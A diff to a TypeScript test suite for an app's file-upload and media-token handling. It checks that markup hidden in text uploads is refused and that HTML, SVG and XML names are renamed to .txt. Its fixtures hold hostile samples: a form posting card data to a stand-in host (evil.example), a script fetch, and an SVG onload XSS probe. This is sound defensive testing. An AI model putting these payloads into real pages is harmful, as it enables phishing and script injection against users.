@@ -75,6 +75,47 @@ for (const driver of DRIVERS) {
       t.equal(await w.rows(), before, 'no row')
     })
 
+    t.test('markup anywhere in a text file: 415; text gets a text name (issue 32)', async (t) => {
+      const before = await w.rows()
+      const page = '<form action="https://evil.example/pay"><input name=card></form><script>fetch("/x")</script>\n'
+      const cases: [string, Buffer][] = [
+        ['invoice.html', Buffer.from(`Invoice 2024-117 for ACME, please pay below\n${page}`)],
+        ['logo.svg', Buffer.from(`just a logo\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)],
+        // Past the 4,100-byte sample the type is decided on, and in a later chunk of the stream.
+        ['late.html', Buffer.concat([Buffer.alloc(150_000, 'plain words '), Buffer.from(page)])],
+        ['late.txt', Buffer.concat([Buffer.alloc(4090, 'x'), Buffer.from('<!DOCTYPE html><p>hi')])],
+      ]
+      for (const [filename, data] of cases) {
+        const res = await upload(guest.headers, conv.id, { filename, contentType: 'text/plain', data })
+        t.equal(res.statusCode, 415, `${filename}: ${res.body}`)
+        t.equal(res.json().code, 'UNSUPPORTED_MEDIA_TYPE')
+      }
+      t.equal(await w.rows(), before, 'no row')
+      if (w.storage.dir) {
+        const { readdirSync } = await import('node:fs')
+        const files = readdirSync(w.storage.dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).length
+        t.equal(files, await w.rows() + (await app.deps.sql`SELECT 1 FROM attachments WHERE thumb_key IS NOT NULL`).length, 'no object of a refused file')
+      }
+
+      const named = async (filename: string, text: string) => {
+        const res = await upload(guest.headers, conv.id, { filename, data: Buffer.from(text) })
+        t.equal(res.statusCode, 201, res.body)
+        return res.json()
+      }
+      const html = await named('invoice.html', 'Invoice 2024-117: 40 EUR, x<a and <none>\n')
+      t.equal(html.filename, 'invoice.html.txt', 'text under an HTML name gets .txt')
+      t.equal(html.contentType, 'text/plain')
+      const served = await app.inject({ url: html.url, headers: guest.headers })
+      t.match(served.headers['content-disposition'], /^attachment; filename="invoice\.html\.txt"$/)
+      t.equal((await named('logo.svg', 'not a picture')).filename, 'logo.svg.txt')
+      t.equal((await named('feed.XML', 'items')).filename, 'feed.XML.txt')
+      t.equal((await named('notes.md', '# notes')).filename, 'notes.md', 'text extensions stay')
+      t.equal((await named('README', 'plain')).filename, 'README', 'no extension, nothing to disagree with')
+      t.equal((await named('table.html', 'a,b\n1,2\n')).filename, 'table.html.txt')
+      const csv = await upload(guest.headers, conv.id, { filename: 'export.html', contentType: 'text/csv', data: Buffer.from('a,b\n') })
+      t.match(csv.json(), { filename: 'export.html.csv', contentType: 'text/csv' })
+    })
+
     t.test('size: exactly the limit passes, one byte more is 413 with nothing kept', async (t) => {
       const text = (n: number) => Buffer.alloc(n, 'a')
       const ok = await upload(guest.headers, conv.id, { filename: 'max.txt', data: text(VISITOR_MAX) })
@@ -184,6 +225,23 @@ for (const driver of DRIVERS) {
       t.equal((await get(`${mine.url}?token=${token.slice(0, -2)}xx`)).statusCode, 404, 'a bad token: 404')
       const expired = signMediaToken(app.deps.config, mine.id, 60, Date.now() - 3_600_000)
       t.equal((await get(`${mine.url}?token=${expired}`)).statusCode, 404, 'an expired token: 404')
+      // The token is the credential of a caller with none (API.md section 1, order of checks):
+      // a value that cannot be a token is no credential, 401 before the query or the id is validated.
+      for (const [query, why] of [
+        [`token=${'a'.repeat(201)}`, 'over 200 characters'],
+        [`token=${token}${'x'.repeat(200)}`, 'a token with a long tail'],
+        ['token=', 'empty'],
+        ['token=not-a-token', 'not of the form'],
+        [`token=${token}&token=${token}`, 'given twice'],
+        ['variant=huge', 'no token, a bad variant'],
+      ]) {
+        const res = await get(`${mine.url}?${query}`)
+        t.equal(res.statusCode, 401, `${why}: 401`)
+        t.equal(res.json().code, 'UNAUTHENTICATED')
+        t.notMatch(res.body, /querystring|characters|must/, 'nothing of the schema')
+      }
+      t.equal((await get(`/media/not-a-uuid?token=${'a'.repeat(300)}`)).statusCode, 401, 'nor of the id')
+      t.equal((await get(`${mine.url}?token=${'a'.repeat(201)}`, ws.agent.headers)).statusCode, 400, 'a member (authenticated) gets the validation error')
       // A sent reply's file is the visitor's to read; a private note's is not.
       const sent = await app.inject({ method: 'POST', url: `/conversations/${conv.id}/messages`, headers: ws.agent.headers, payload: { body: '', attachmentIds: [agents.id] } })
       t.equal(sent.statusCode, 201, sent.body)
